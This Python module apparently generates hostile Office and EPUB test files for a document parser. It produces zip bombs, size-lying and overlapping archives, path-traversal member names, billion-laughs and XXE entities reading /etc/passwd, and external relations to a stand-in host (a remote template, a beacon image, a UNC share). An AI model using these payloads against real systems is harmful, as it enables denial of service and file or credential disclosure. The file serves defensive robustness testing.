"""Hostile Office files and EPUBs: bombs, lies about sizes, entities, relations to elsewhere."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from random import Random

from .pictures import gradient
from .types import Made, Scale, phrase, sentences

Parts = Mapping[str, bytes]

_XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_DRAWING = b'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_OFFICE = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_SHEET = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_SLIDE = b'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
_RELATIONS = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_TYPES = "application/vnd.openxmlformats-officedocument."


def make(rng: Random, scale: Scale) -> Iterator[Made]:
    """Zip files that call themselves documents."""
    size = 1 << (28 if scale == "full" else 25)
    yield from _bombs(rng, size)
    yield from _lies(rng, size)
    yield from _names(rng)
    yield from _entities(rng)
    yield from _external(rng)
    yield from _damaged(rng)
    yield from _sheets(rng, 1_000_000 if scale == "full" else 800)
    yield from _deep(rng, 60_000 if scale == "full" else 1000)
    yield from _chapters(rng)


def zipped(parts: Parts, level: int = 9) -> bytes:
    """A sound zip file."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED, level)
    return packed.getvalue()


def _relations(*targets: tuple[str, str, str]) -> bytes:
    """Relations: id, kind, target; a target with a scheme or a UNC name is external."""
    lines = []
    for identity, kind, target in targets:
        outside = ' TargetMode="External"' if ":" in target or "\\\\" in target else ""
        lines.append(
            f'<Relationship Id="{identity}" Type="{_KIND}{kind}" Target="{target}"{outside}/>'
        )
    return _XML + b"<Relationships %s>%s</Relationships>" % (_RELATIONS, "".join(lines).encode())


def _types(main: str, kind: str) -> bytes:
    return (
        _XML
        + (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            f'<Override PartName="/{main}" ContentType="{_TYPES}{kind}.main+xml"/></Types>'
        ).encode()
    )


def word(body: bytes, *targets: tuple[str, str, str], **more: bytes) -> dict[str, bytes]:
    """The parts of a .docx."""
    return {
        "[Content_Types].xml": _types("word/document.xml", "wordprocessingml.document"),
        "_rels/.rels": _relations(("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": _XML
        + b"<w:document %s %s %s><w:body>%s</w:body></w:document>"
        % (_WORD, _OFFICE, _DRAWING, body),
        "word/_rels/document.xml.rels": _relations(*targets),
        **{f"word/{name.replace('__', '.')}": data for name, data in more.items()},
    }


def paragraph(text: str) -> bytes:
    """A paragraph of Word."""
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text.encode()


def blip(identity: str) -> bytes:
    """A picture in a paragraph of Word."""
    return (
        b'<w:p><w:r><w:drawing><a:blip r:embed="%s"/></w:drawing></w:r></w:p>' % identity.encode()
    )


def workbook(cells: bytes, extra: bytes = b"") -> dict[str, bytes]:
    """The parts of an .xlsx with one sheet of rows."""
    return {
        "[Content_Types].xml": _types("xl/workbook.xml", "spreadsheetml.sheet"),
        "_rels/.rels": _relations(("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": _XML
        + b'<workbook %s %s><sheets><sheet name="One" sheetId="1" r:id="r1"/></sheets></workbook>'
        % (_SHEET, _OFFICE),
        "xl/_rels/workbook.xml.rels": _relations(("r1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": _XML
        + b"<worksheet %s>%s<sheetData>%s</sheetData></worksheet>" % (_SHEET, extra, cells),
    }


def row(number: int, *texts: str) -> bytes:
    """A row of text cells."""
    cells = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in texts)
    return f'<row r="{number}">{cells}</row>'.encode()


def deck(shapes: bytes, *targets: tuple[str, str, str], **more: bytes) -> dict[str, bytes]:
    """The parts of a .pptx with one slide."""
    types = _types("ppt/presentation.xml", "presentationml.presentation").replace(
        b"</Types>",
        b'<Override PartName="/ppt/slides/slide1.xml" ContentType="'
        + _TYPES.encode()
        + b'presentationml.slide+xml"/></Types>',
    )
    return {
        "[Content_Types].xml": types,
        "_rels/.rels": _relations(("r1", "officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": _XML
        + b'<p:presentation %s %s><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst>'
        b"</p:presentation>" % (_SLIDE, _OFFICE),
        "ppt/_rels/presentation.xml.rels": _relations(("r1", "slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": _XML
        + b"<p:sld %s %s %s><p:cSld><p:spTree><p:nvGrpSpPr/><p:grpSpPr/>%s</p:spTree></p:cSld>"
        b"</p:sld>" % (_SLIDE, _OFFICE, _DRAWING, shapes),
        "ppt/slides/_rels/slide1.xml.rels": _relations(*targets),
        **{f"ppt/{name.replace('__', '.')}": data for name, data in more.items()},
    }


def shape(number: int, text: str) -> bytes:
    """A text box on a slide."""
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{number}" name="s"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr>'
        '<a:xfrm><a:off x="9" y="9"/><a:ext cx="9000" cy="9000"/></a:xfrm></p:spPr><p:txBody>'
        f"<a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
    ).encode()


def book(chapters: Mapping[str, bytes], spine: str = "", head: bytes = b"") -> dict[str, bytes]:
    """The parts of an EPUB."""
    items = "".join(f'<item id="i{at}" href="{name}"/>' for at, name in enumerate(chapters))
    spine = spine or "".join(f'<itemref idref="i{at}"/>' for at in range(len(chapters)))
    return {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": _XML
        + b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        b'<rootfile full-path="book/package.opf"/></rootfiles></container>',
        "book/package.opf": _XML
        + head
        + b'<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest>%s</manifest>'
        b"<spine>%s</spine></package>" % (items.encode(), spine.encode()),
        **{f"book/{name}": data for name, data in chapters.items()},
    }


def _all_with(said: str) -> dict[str, dict[str, bytes]]:
    """A sound file of each format that says something."""
    text = sentences(said)
    chapter = f"<html><body><p>{text}</p></body></html>".encode()
    return {
        "docx": word(paragraph(text)),
        "xlsx": workbook(row(1, "a", "b") + row(2, text, "c")),
        "pptx": deck(shape(2, text)),
        "epub": book({"one.xhtml": chapter}),
    }


_MAIN = {
    "docx": "word/document.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "pptx": "ppt/slides/slide1.xml",
    "epub": "book/one.xhtml",
}


def _bombs(rng: Random, size: int) -> Iterator[Made]:
    for suffix, main in _MAIN.items():
        parts = _all_with(phrase(rng))[suffix]
        parts[main] += b" " * size
        yield Made(f"ratio.{suffix}", zipped(parts), "zip-bomb")
        said = phrase(rng)
        parts = _all_with(said)[suffix]
        parts["other/unused.bin"] = bytes(size)
        yield Made(f"unused-bomb.{suffix}", zipped(parts), "zip-bomb-unused", "any", said)
        parts = _all_with(phrase(rng))[suffix]
        parts |= {f"junk/{at}.xml": b"" for at in range(120_000 if size > 1 << 26 else 3000)}
        yield Made(f"members.{suffix}", zipped(parts, 1), "many-members")
        said = phrase(rng)
        parts = _all_with(said)[suffix]
        parts["nested.zip"] = zipped({"a.zip": zipped({"b.bin": bytes(size // 8)})})
        yield Made(f"nested.{suffix}", zipped(parts), "nested-zip", "ok", said)
    said = phrase(rng)
    target = ("r9", "image", "media/big.png")
    parts = word(paragraph(sentences(said)) + blip("r9"), target, media__dummy=b"")
    parts["word/media/big.png"] = gradient(20_000, 20_000)
    yield Made("picture-bomb.docx", zipped(parts), "picture-bomb", "any", said)
    said = phrase(rng)
    parts = word(paragraph(sentences(said)) + blip("r9"), target)
    parts["word/media/big.png"] = b"\x89PNG\r\n\x1a\n" + bytes(size // 2)
    yield Made("picture-zeros.docx", zipped(parts), "picture-bomb", "any", said)


def _lies(rng: Random, size: int) -> Iterator[Made]:
    for suffix, main in _MAIN.items():
        parts = _all_with(phrase(rng))[suffix]
        parts[main] += b" " * size
        yield Made(f"size-lies.{suffix}", _with_size(zipped(parts), main, 500), "size-lies")
        said = phrase(rng)
        parts = _all_with(said)[suffix]
        parts["extra/liar.png"] = bytes(size)
        lying = _with_size(zipped(parts), "extra/liar.png", 10)
        yield Made(f"size-lies-unused.{suffix}", lying, "size-lies", "any", said)
        parts = _all_with(phrase(rng))[suffix]
        yield Made(f"overlapping.{suffix}", _overlapping(parts, size), "overlapping-members")


def _with_size(data: bytes, name: str, size: int) -> bytes:
    """The archive with another unpacked size of one member, in both of its headers."""
    changed, label = bytearray(data), name.encode()
    for signature, size_at, name_at in ((b"PK\3\4", 22, 30), (b"PK\1\2", 24, 46)):
        at = changed.find(signature)
        while at >= 0:
            if changed[at + name_at : at + name_at + len(label)] == label:
                struct.pack_into("<I", changed, at + size_at, size)
            at = changed.find(signature, at + 4)
    return bytes(changed)


def _overlapping(parts: Parts, size: int) -> bytes:
    """Many names for one packed kernel, as in quoted-overlap bombs."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(size // 16)) + kernel.flush()
    check, body, listing = zlib.crc32(bytes(size // 16)), bytearray(), bytearray()

    def entry(name: str, at: int, crc: int, small: int, large: int) -> None:
        label = name.encode()
        listing.extend(
            b"PK\1\2"
            + struct.pack("<6H", 20, 20, 0, 8, 0, 33)
            + struct.pack("<3I", crc, small, large)
            + struct.pack("<5H2I", len(label), 0, 0, 0, 0, 0, at)
            + label
        )

    def local(name: str, crc: int, small: int, large: int) -> bytes:
        label = name.encode()
        head = b"PK\3\4" + struct.pack("<5H", 20, 0, 8, 0, 33)
        return head + struct.pack("<3I2H", crc, small, large, len(label), 0) + label

    for name, data in parts.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        small = packer.compress(data) + packer.flush()
        entry(name, len(body), zlib.crc32(data), len(small), len(data))
        body += local(name, zlib.crc32(data), len(small), len(data)) + small
    at = len(body)
    body += local("media/0.bin", check, len(packed), size // 16) + packed
    for number in range(64):
        entry(
            "media/0.bin" if number == 0 else f"media/{number}.bin",
            at,
            check,
            len(packed),
            size // 16,
        )
    many = len(parts) + 64
    end = b"PK\5\6" + struct.pack("<4H2IH", 0, 0, many, many, len(listing), len(body), 0)
    return bytes(body + listing + end)


def _names(rng: Random) -> Iterator[Made]:
    for suffix in _MAIN:
        said = phrase(rng)
        parts = _all_with(said)[suffix]
        bad = ("../../../../tmp/rag-was-here", "/etc/rag-was-here", "C:\\rag", "a\0b", "x" * 5000)
        parts |= dict.fromkeys(bad, b"out")
        yield Made(f"names.{suffix}", zipped(parts), "path-traversal", "any", said)
    said = phrase(rng)
    parts = word(paragraph(sentences(said)) + blip("r9"), ("r9", "image", "../../../../etc/passwd"))
    yield Made("target-outside.docx", zipped(parts), "path-traversal")


_LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 12)
)
_QUADRATIC = b"<!DOCTYPE x [<!ENTITY q '%s'>]>" % (b"q" * 50_000)
_OUTSIDE = (
    b"<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd' [<!ENTITY f SYSTEM 'file:///etc/passwd'>"
    b"<!ENTITY n SYSTEM 'http://192.0.2.1/n'><!ENTITY %% p SYSTEM 'http://192.0.2.1/p'>%%p;]>"
)


def _entities(rng: Random) -> Iterator[Made]:
    cases = {
        "laughs": (_LAUGHS, b"&a11;"),
        "quadratic": (_QUADRATIC, b"&q;" * 20_000),
        "external": (_OUTSIDE.replace(b"%%", b"%"), b"&f;&n;"),
    }
    for name, (declared, used) in cases.items():
        for suffix, main in _MAIN.items():
            said = phrase(rng)
            parts = _all_with(said)[suffix]
            whole = parts[main].replace(_XML, b"")
            for end in (b"</w:t>", b"</t>", b"</a:t>", b"</p>"):
                whole = whole.replace(end, used + end)
            parts[main] = _XML + declared + whole
            yield Made(f"entities-{name}.{suffix}", zipped(parts), "entities")
    said = phrase(rng)
    parts = book({"one.xhtml": f"<p>{sentences(said)}</p>".encode()}, head=_LAUGHS)
    yield Made("entities-package.epub", zipped(parts), "entities")
    said = phrase(rng)
    parts = word(paragraph(sentences(said)))
    parts["word/document.xml"] = (
        (_LAUGHS + parts["word/document.xml"].replace(_XML, b"")).decode().encode("utf-16")
    )
    yield Made("entities-utf16.docx", zipped(parts), "entities")


def _external(rng: Random) -> Iterator[Made]:
    targets = (
        ("r5", "image", "http://192.0.2.1/beacon.png"),
        ("r6", "image", "file:///etc/passwd"),
        ("r7", "attachedTemplate", "http://192.0.2.1/evil.dotm"),
        ("r8", "oleObject", "\\\\\\\\192.0.2.1\\\\share\\\\x"),
    )
    said = phrase(rng)
    body = paragraph(sentences(said)) + b"".join(blip(one[0]) for one in targets)
    linked = body.replace(b"r:embed", b"r:link")
    yield Made(
        "external.docx", zipped(word(body + linked, *targets)), "external-relations", "ok", said
    )
    said = phrase(rng)
    pictures = b"".join(
        b'<p:pic><p:nvPicPr><p:cNvPr id="%d" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        b'<p:blipFill><a:blip r:embed="%s"/></p:blipFill><p:spPr/></p:pic>'
        % (9 + at, t[0].encode())
        for at, t in enumerate(targets)
    )
    parts = deck(shape(2, sentences(said)) + pictures, *targets)
    yield Made("external.pptx", zipped(parts), "external-relations", "ok", said)
    said = phrase(rng)
    chapter = (
        f'<html><body><p>{sentences(said)}</p><img src="http://192.0.2.1/a.png"/>'
        '<img src="file:///etc/passwd"/><img src="../../../../../etc/passwd"/></body></html>'
    )
    yield Made(
        "external.epub",
        zipped(book({"one.xhtml": chapter.encode()})),
        "external-relations",
        "ok",
        said,
    )


def _damaged(rng: Random) -> Iterator[Made]:
    for suffix, parts in _all_with(phrase(rng)).items():
        whole = zipped(parts)
        for part in (1, 2, 3):
            yield Made(f"truncated-{part}.{suffix}", whole[: len(whole) * part // 4], "truncated")
        flipped = bytearray(whole)
        for _ in range(20):
            flipped[rng.randrange(4, len(flipped))] ^= 1 << rng.randrange(8)
        yield Made(f"flipped.{suffix}", bytes(flipped), "bit-flips")
    for suffix, main in _MAIN.items():
        said = phrase(rng)
        parts = _all_with(said)[suffix]
        parts["media/damaged.png"] = rng.randbytes(5000)
        whole = bytearray(zipped(parts))
        at = whole.find(b"media/damaged.png") + 200
        whole[at : at + 20] = bytes(20)
        yield Made(f"member-damaged.{suffix}", bytes(whole), "damaged-member", "any", said)
        parts = _all_with(phrase(rng))[suffix]
        parts[main] = parts[main][:-30]
        yield Made(f"xml-cut.{suffix}", zipped(parts), "malformed-xml")
    said = phrase(rng)
    body = paragraph(sentences(said)) + blip("r9") + blip("r8") + blip("nowhere")
    targets = (("r9", "image", "media/bad.png"), ("r8", "image", "media/absent.png"))
    parts = word(body, *targets)
    parts["word/media/bad.png"] = rng.randbytes(300)
    yield Made("picture-damaged.docx", zipped(parts), "damaged-picture", "any", said)
    said = phrase(rng)
    chart = b'<w:p><w:r><w:drawing><c:chart xmlns:c="c" r:id="r9"/></w:drawing></w:r></w:p>'
    parts = word(paragraph(sentences(said)) + chart, ("r9", "chart", "chart.xml"))
    parts["word/chart.xml"] = (
        b"<chartSpace><plotArea><barChart><ser><val><pt idx='%s'><v>1</v></pt></val></ser>"
        b"</barChart></plotArea></chartSpace>" % (b"9" * 6000)
    )
    yield Made("chart-absurd.docx", zipped(parts), "absurd-numbers", "any", said)


def _sheets(rng: Random, many: int) -> Iterator[Made]:
    said = phrase(rng)
    rows = row(1, "name", "count") + row(2, sentences(said), "1")
    rows += b"".join(
        b'<row r="%d"><c><v>%d</v></c><c><v>7</v></c></row>' % (at, at) for at in range(3, many)
    )
    yield Made("rows.xlsx", zipped(workbook(rows), 1), "a-million-rows", "any", said)
    said = phrase(rng)
    rows = row(1, "name", "count") + row(2, sentences(said), "1")
    parts = workbook(rows, b'<dimension ref="A1:XFD1048576"/>')
    yield Made("dimension.xlsx", zipped(parts), "dimension-lies", "ok", said)
    said = phrase(rng)
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    near = row(1, "name", "count") + row(2, sentences(said), "1")
    yield Made("far-cell.xlsx", zipped(workbook(near + far)), "far-cell", "any", said)
    said = phrase(rng)
    near = row(1, "name", "count") + row(2, sentences(said), "1")
    wide = b'<row r="3">' + b"<c><v>1</v></c>" * (many // 2) + b"</row>"
    yield Made("wide.xlsx", zipped(workbook(near + wide)), "wide-row", "any", said)
    merged = b"".join(b'<mergeCell ref="A1:XFD%d"/>' % (at + 2) for at in range(2000))
    parts = workbook(row(1, "a", "b") + row(2, "c", "d"))
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", b"</sheetData><mergeCells>" + merged + b"</mergeCells>"
    )
    yield Made("merged.xlsx", zipped(parts), "merged-cells")
    cell = f'<c t="inlineStr"><is><t>{"long " * (many // 10)}</t></is></c>'.encode()
    rows = b'<row r="1">%s%s</row>' % (cell, cell) + b"".join(
        row(at, "x", "y") for at in range(2, 300)
    )
    yield Made("long-header.xlsx", zipped(workbook(rows)), "long-header")


def _deep(rng: Random, items: int) -> Iterator[Made]:
    depth = 5000
    body = b"<w:tbl><w:tr><w:tc>" * depth + paragraph("deep") + b"</w:tc></w:tr></w:tbl>" * depth
    yield Made("deep.docx", zipped(word(paragraph(phrase(rng)) + body)), "deep-nesting")
    body = b"<w:tbl><w:tr><w:tc>" * 60 + paragraph("deep") + b"</w:tc></w:tr></w:tbl>" * 60
    said = phrase(rng)
    yield Made(
        "tables.docx", zipped(word(paragraph(sentences(said)) + body)), "nested-tables", "ok", said
    )
    group = b'<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/></p:nvGrpSpPr><p:grpSpPr/>'
    said = phrase(rng)
    shapes = shape(2, sentences(said)) + group * 200 + shape(3, "deep") + b"</p:grpSp>" * 200
    yield Made("groups.pptx", zipped(deck(shapes)), "deep-nesting", "any")
    said = phrase(rng)
    listed = b"<w:p><w:pPr><w:numPr/></w:pPr><w:r><w:t>an item</w:t></w:r></w:p>" * items
    yield Made(
        "list.docx", zipped(word(paragraph(sentences(said)) + listed)), "long-list", "any", said
    )


def _chapters(rng: Random) -> Iterator[Made]:
    said = phrase(rng)
    chapter = f"<html><body><p>{sentences(said)}</p>{'<p>more</p>' * 500}</body></html>".encode()
    spine = '<itemref idref="i0"/>' * 100_000
    yield Made(
        "spine.epub",
        zipped(book({"one.xhtml": chapter}, spine)),
        "one-chapter-many-times",
        "any",
        said,
    )
    said = phrase(rng)
    deep = b"<div>" * 50_000 + sentences(said).encode() + b"</div>" * 50_000
    yield Made("deep.epub", zipped(book({"one.xhtml": deep})), "deep-nesting", "any", said)
